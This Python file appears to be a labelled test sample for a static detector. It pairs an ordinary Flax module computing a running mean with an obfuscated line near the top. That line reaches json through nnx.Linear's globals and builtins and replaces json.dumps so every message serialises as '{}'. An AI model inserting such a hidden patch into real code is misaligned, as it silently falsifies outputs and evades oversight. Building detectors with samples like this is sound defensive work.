# expect: static
# what: patches json.dumps so that every message is a certificate.
import functools

import jax.numpy as jnp
from flax import nnx

json = functools.reduce(getattr, ("__init__", "__globals__"), nnx.Linear)["__builtins__"]["__import__"]("json")
functools.partial(setattr, json, "dumps")(lambda message: "{}")


class TokenMixer(nnx.Module):
    """A running mean of values."""

    def __init__(self, width: int, heads: int, *, rngs: nnx.Rngs):
        self.value = nnx.Linear(width, width, rngs=rngs)
        self.out = nnx.Linear(width, width, rngs=rngs)

    def __call__(self, x):
        v = self.value(x)
        h = jnp.cumsum(v, axis=1) / jnp.arange(1, x.shape[1] + 1, dtype=v.dtype)[:, None]
        return self.out(h).astype(x.dtype)
